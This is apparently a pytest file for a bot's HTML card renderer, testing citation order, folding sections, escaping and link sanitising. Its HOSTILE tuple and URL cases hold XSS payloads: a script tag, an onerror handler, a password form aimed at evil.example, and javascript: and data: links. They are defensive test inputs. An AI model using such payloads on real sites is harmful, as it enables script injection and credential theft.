from __future__ import annotations

import re

import pytest

from bot.web.card import Live, card
from bot.web.markup import link, plain
from tests.bot.desks import BRIDGE, CATALOG, FixedDesk, answer, outside, quote

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?q=1)",
    '"><form action=//evil.example><input type=password>',
    "[click](javascript:alert(1))",
    "</div></details>\n\n# Heading\n\n```html\n<b>",
    "\u202eevil\u2066\u200b",
)


def test_the_recommendation_comes_first_with_its_strength_certainty_and_firmness() -> None:
    """A reader who reads three lines knows what to do and how sure it is."""
    text = card(answer(), CATALOG).partition(">")[2]
    places = [
        text.index(words)
        for words in (
            "Run a ferry",
            "A ferry carries a few cars well.",
            "Moderate recommendation",
            "Low certainty",
            "Open: a fact not stated yet",
            "A ferry carries forty cars",
        )
    ]
    assert places == sorted(places)


def test_every_number_leads_to_a_quote_of_the_same_turn() -> None:
    """No citation mark of a card points to nowhere or to another turn's evidence."""
    text = card(answer(), CATALOG, turn=7)
    wanted, there = set(re.findall(r'href="#([^"]+)"', text)), set(re.findall(r'<li id="([^"]+)"', text))
    assert wanted == there == {"turn-7-ref-1", "turn-7-ref-2"}


def test_a_fact_is_shown_with_the_words_it_was_heard_in() -> None:
    """The value as understood and the words of the question stand side by side."""
    assert "<strong>40/day</strong>" in card(answer(), CATALOG)
    assert "heard “40 cars a day”" in card(answer(), CATALOG)


@pytest.mark.parametrize(
    "part",
    [
        "The path: facts, rules, choice",
        "Evidence",
        "Step by step",
        "What argues against it",
        "What would change it",
        "Where sources disagree",
    ],
)
def test_the_reasons_fold(part: str) -> None:
    """Each reason is a part of its own that opens."""
    assert re.search(rf'<details class="cr-fold"[^>]*><summary>{part}', card(answer(), CATALOG))


def test_the_reason_is_the_rule_s_own_words_whatever_its_conditions_hold() -> None:
    """A condition with a colon in it (``ice in winter: no``) does not leak into the line under the verdict."""
    path = tuple(s.model_copy(update={"text": "If ice in winter: no: A ferry"}) for s in answer().path if s.outcome)
    assert '<p class="cr-why">A ferry carries a few cars well. ' in card(answer(path=path), CATALOG)


def test_what_weighed_more_stands_under_the_positions() -> None:
    """The sentence follows the sides of its conflict, escaped; a conflict without one has no such line."""
    (conflict,) = answer().conflicts
    weighed = card(answer(conflicts=(conflict.model_copy(update={"weight": "Leans on <b>one</b>."}),)), CATALOG)
    assert '</ul><p class="cr-weight">Leans on &lt;b&gt;one&lt;/b&gt;.</p>' in weighed
    assert "cr-weight" not in card(answer(), CATALOG)


def test_empty_parts_are_left_out() -> None:
    """No fold opens on nothing."""
    text = card(answer(conflicts=(), flips=()), CATALOG)
    assert "Where sources disagree" not in text
    assert "What would change it" not in text


@pytest.mark.parametrize("hostile", HOSTILE)
def test_text_of_a_source_or_a_user_is_never_markup(hostile: str) -> None:
    """Hostile text in every field leaves the card's own tags and attributes as they were."""
    bad = quote(1, hostile).model_copy(update={"prefix": hostile, "suffix": hostile, "link": "javascript:alert(1)"})
    fact = answer().facts[0].model_copy(update={"text": hostile})
    path = tuple(step.model_copy(update={"text": hostile}) for step in answer().path)
    live = Live(problem=("cars", hostile), supposed={"ice": (hostile, hostile, hostile)}, instead=BRIDGE)
    text = card(answer(citations=(bad,), facts=(fact,), path=path, text=hostile), CATALOG, live=live)
    shape = card(answer(citations=(quote(1, "x"),), path=path), CATALOG, live=live)
    assert set(re.findall(r"<[a-z]+", text)) <= set(re.findall(r"<[a-z]+", shape))
    assert not re.search(r"<(script|img|form|b|h1|iframe|object|input type=password)[ >]", text)
    assert not re.search(r"\son[a-z]+=", re.sub(r'"[^"]*"|>[^<]*<', "", text))
    assert 'href="javascript' not in text
    assert not re.search("[\u202e\u2066\u200b]", text)


def test_a_rule_of_the_picture_opens_itself_and_the_passages_behind_it() -> None:
    """What a rule controls is there, hidden until it is pressed, with its quote."""
    text = card(answer(), CATALOG)
    wanted = set(re.findall(r'aria-controls="(turn-1-step-\d+)"', text))
    assert wanted == set(
        re.findall(r'<div id="(turn-1-step-\d+)" class="cr-opened" data-own="hidden style" hidden>', text)
    )
    assert re.search(r'id="turn-1-step-2".*?A ferry carries forty cars', text)


def test_only_a_live_card_can_be_changed() -> None:
    """The next question, chips and charts have their controls there, and none on a card that is past."""
    live = card(answer(), CATALOG, live=Live(charts=FixedDesk().charts(("q",), {})))
    controls = r"data-set=|data-edit=|cr-knob|cr-adder"
    assert len(set(re.findall(controls, live))) == 4
    assert not re.search(controls, card(answer(), CATALOG))


def test_the_next_question_stands_above_the_facts_with_answers_fit_to_its_kind() -> None:
    """Yes and no for a yes/no; the others wait behind a fold."""
    live = card(answer(), CATALOG, live=Live())
    assert re.findall(r'data-factor="ice" data-set="(\w+)"', live)[:2] == ["yes", "no"]
    assert "Could change it to Build a bridge." in live
    assert live.index("Does the river freeze?") < live.index("What I understood")


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "//evil.example",
        "ftp://x.example",
        "http://[",
        "https:// x",
        None,
        "",
    ],
)
def test_only_plain_web_addresses_become_links(url: str | None) -> None:
    """Anything else is shown as text alone."""
    assert link("Report", url) == "Report"


def test_a_link_shows_its_host() -> None:
    """The reader sees where a link leads before following it."""
    shown = link("Report", "https://www.river.example/a?b=1&c=2")
    assert 'href="https://www.river.example/a?b=1&amp;c=2"' in shown
    assert ">river.example<" in shown


def test_a_digest_is_called_a_summary_and_an_original_word_for_word() -> None:
    """Nothing that we wrote is passed off as a quotation of the source."""
    assert "our summary of" in card(answer(), CATALOG)
    original = quote(1, "A ferry.").model_copy(update={"kind": "original"})
    assert "word for word from" in card(answer(citations=(original,)), CATALOG)


def test_out_of_scope_cites_nothing_and_says_what_is_known() -> None:
    """The card names the decisions that can be weighed, and no evidence."""
    text = card(outside(), CATALOG)
    assert "I have no evidence on this" in text
    assert "Ferry or bridge" in text
    assert "cr-mark" not in text


def test_evidence_only_shows_the_passage_and_no_verdict() -> None:
    """A look-up is answered by its passage and the reference behind it."""
    text = card(
        answer(outcome="evidence_only", recommendation=None, citations=(quote(1, "A ferry carries forty cars [3]."),)),
        CATALOG,
    )
    assert "The passage that answers this" in text
    assert "Styx (1999). Ferries." in text
    assert "recommendation" not in text


def test_without_facts_the_card_says_that_nothing_is_decided() -> None:
    """The opening of the answer stands there, with its numbers as links."""
    text = card(
        answer(outcome="needs_facts", recommendation=None, facts=(), text="Begin with a ferry. [1]\n\nmore"), CATALOG
    )
    assert "Not decided yet" in text
    assert 'Begin with a ferry. <a class="cr-mark" href="#turn-1-ref-1"' in text


def test_plain_is_one_line() -> None:
    """Line breaks become blanks."""
    assert plain("a\n\n b\tc") == "a b c"
